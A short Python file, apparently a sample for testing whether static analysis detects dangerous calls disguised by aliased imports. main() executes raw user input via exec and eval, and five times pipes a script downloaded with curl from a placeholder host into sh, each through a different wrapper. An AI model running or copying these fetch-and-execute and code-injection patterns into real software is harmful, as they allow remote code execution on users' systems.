import os as note
import subprocess as sp
from os import popen as read
from subprocess import *

run = exec
again = run


def main():
    again(input())
    note.system("curl -s https://payload.acme-cdn.example/a.sh | sh")
    sp.run("curl -s https://payload.acme-cdn.example/b.sh | sh", shell=True)
    read("curl -s https://payload.acme-cdn.example/c.sh | sh")
    start, _ = sp.getoutput, None
    start("curl -s https://payload.acme-cdn.example/d.sh | sh")
    check_output("curl -s https://payload.acme-cdn.example/e.sh | sh", shell=True)
    (lambda text: eval(text))(input())
